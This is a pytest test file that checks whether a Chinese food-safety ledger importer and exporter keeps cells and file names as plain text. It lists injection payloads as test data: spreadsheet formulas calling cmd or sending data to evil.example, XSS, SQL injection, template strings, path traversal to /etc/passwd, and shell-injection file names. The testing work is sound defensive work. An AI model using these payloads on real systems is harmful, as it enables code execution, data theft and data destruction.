"""Injection: whatever a cell or a file name says, it is text on its way in and on its way out."""

import io
import os
from pathlib import Path

import openpyxl
import pytest

from exports.table import Table, to_xlsx
from loaders.annotate import mark
from loaders.checked import Declared
from store.uploads import facts_of, list_uploads, undo
from tests.corpus.cases import bad, doubtful, good, hold, refused
from tests.corpus.sheets import Layout, disposals, form, ledger, sample, task, three, xls, xlsx
from tests.loaders.boxes import as_html, as_text, as_xml_2003

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.example\")",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<b onmouseover=alert(1)>x</b>", "javascript:alert(1)",
    "![x](http://evil.example/b.png)", "[点此](http://evil.example)", "# 标题", ":red[红]", "$\\sqrt{x}$", "`x`",
    "'; DROP TABLE samples; --", "' OR '1'='1", "Robert'); DELETE FROM uploads;--", "{{7*7}}", "${7*7}", "%s%n{file}{0}",
    "\u202eexe.xslx", "a\u0301\u0301\u0301", "../../etc/passwd",
)  # fmt: skip
UNWRITABLE = "某\ufffe\uffff\x0b"  # no workbook can hold these
NAMES = (
    "../../台账.xlsx", "..\\..\\台账.xlsx", "C:\\Windows\\台账.xlsx", "/etc/cron.d/台账.xlsx", "\\\\server\\share\\台账.xlsx", "CON.xlsx", "nul",
    "台" * 300 + ".xlsx", "台账🍞.xlsx", '台"账\'.xlsx', "台\x00账.xlsx", "台\n账\r.xlsx", "\u202excod.台账", "台账.xlsx.", " 台账 .xlsx ", "~$台账.xlsx",
    "=cmd|' /C calc'!A0.xlsx", "<img src=x onerror=alert(1)>.xlsx", "{file}{0}%s.xlsx", ".xlsx", "", "-rf.xlsx", "$(touch x).xlsx",
    "台账.xlsx;rm -rf x", "file:///etc/passwd", "台\u0301账.xlsx", "乙.zip/../../台账.xlsx",
)  # fmt: skip


def text(payload: str) -> Layout:
    """Returns the ledger with the payload wherever a text is kept: food, enterprise, failed items."""
    return ledger(
        [
            sample(food=payload, entity=payload),
            sample("XC20210400002", verdict="不合格", items=payload),
            *three()[2:],
        ]
    )


CASES = [
    *(good(f"food {payload!r}", lambda payload=payload: text(payload), like=lambda payload=payload: xls(text(payload)), records=3)
      for payload in PAYLOADS[::2]),
    *(good(f"in a page {payload!r}", lambda payload=payload: as_html(text(payload)), like=lambda payload=payload: text(payload),
           file="台账.xls") for payload in PAYLOADS[9:12]),
    *(good(f"in a CSV {payload!r}", lambda payload=payload: as_text(text(payload)).encode(), like=lambda payload=payload: text(payload),
           file="台账.csv") for payload in PAYLOADS[:9:2]),
    good("unwritable characters in a page", lambda: as_html(text(UNWRITABLE)), like=lambda: text("某"), file="台账.xls"),
    good("unwritable characters in an xls", lambda: xls(text(UNWRITABLE)), like=lambda: text("某"), file="台账.xls"),
    good("in XML 2003", lambda: as_xml_2003(text(PAYLOADS[9])), like=lambda: text(PAYLOADS[9]), file="台账.xls"),
    *(bad(f"figure {payload!r}", lambda payload=payload: form({"食品安全违法": {"cases_filed": payload}}, totals=None),
          "integer_expected 附件2!E5", file="铁拳.xlsx") for payload in PAYLOADS[:4]),
    *(doubtful(f"county {payload!r}", lambda payload=payload: ledger([sample(county=payload), *three()[1:]]), "unknown_place 台账!D2")
      for payload in ("=1+1", "<script>alert(1)</script>", "' OR '1'='1", "%县_")),
    *(bad(f"unit {payload!r}", lambda payload=payload: form(unit=payload), "unknown_unit 附件2!", file="铁拳.xlsx")
      for payload in ("<b>甲县</b>", "' OR '1'='1")),
    *(doubtful(f"number {payload!r}", lambda payload=payload: ledger([sample(payload), *three()[1:]]), "sample_no_odd 台账!A2")
      for payload in ("=1+1", "'; DROP TABLE samples; --")),
    good("task key", lambda: disposals([task("' OR '1'='1", enterprise=PAYLOADS[1])]), like=None, records=1),
    good("header", lambda: ledger([(*row, "x") for row in three()], [*_headers(), "=1+1<script>"])),
    good("title", lambda: ledger(title="=cmd|' /C calc'!A0<script>alert(1)</script>")),
    good("sheet name", lambda: ledger(name="=1+1 <b>x<")),
    *(good(f"file named {name[:30]!r}", ledger, file=name) for name in NAMES),
    *(refused(f"empty file named {name[:30]!r}", b"", "empty_file", file=name) for name in NAMES[:4]),
]  # fmt: skip


def _headers() -> list[str]:
    return [str(value) for (row, _), value in sorted(ledger().cells.items()) if row == 0]


@pytest.mark.parametrize("case", CASES, ids=str)
def test_injection(house, case):
    hold(house, case)


def test_what_was_loaded_goes_out_as_text(house):
    rows = [sample(f"XC2021{n:04d}", food=payload) for n, payload in enumerate(PAYLOADS)]
    facts = house.check(xlsx(ledger(rows)), "台账.xlsx").facts["samples"].to_pylist()
    texts = [row["food_name"] for row in facts] + [UNWRITABLE]
    assert set(PAYLOADS) - set(texts) <= {PAYLOADS[5]}  # whose tab is cut off
    table = Table("=1+1" + UNWRITABLE, [*texts], [texts, texts], [*texts])
    for cell in _cells(to_xlsx(table)):
        assert cell.data_type == "s", cell.value
        assert cell.hyperlink is None


@pytest.mark.parametrize("box", [xlsx, xls, as_html])
def test_the_marked_copy_shows_text(house, tmp_path: Path, box):
    rows = [
        sample(f"XC2021{n:04d}", food=payload, county=payload, day=payload)
        for n, payload in enumerate(PAYLOADS)
    ]
    data = box(ledger([*rows, sample("XC20219999", food=UNWRITABLE)], title=PAYLOADS[1]))
    checked = house.check(data, "=cmd|' /C calc'!A0.xlsx")
    assert checked.has_errors
    out = mark(data, checked, None, tmp_path / "标注.xlsx")
    for cell in _cells(out.read_bytes()):
        assert cell.data_type != "f", cell.value
        assert cell.hyperlink is None or cell.hyperlink.location


def test_a_names_history_is_text_and_no_path(house, tmp_path: Path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in NAMES[::5]:
        loaded = house.door.load(house.check(xlsx(ledger()), name, Declared()), "<b>某人</b>")
        assert facts_of(house.warehouse, loaded.upload_id)["samples"]
        assert list_uploads(house.warehouse)[0]["file_name"] == name
        undo(house.warehouse, loaded.upload_id)
    assert os.listdir(tmp_path) == []


def _cells(data: bytes):
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        yield from (cell for row in sheet.iter_rows() for cell in row if cell.value is not None)
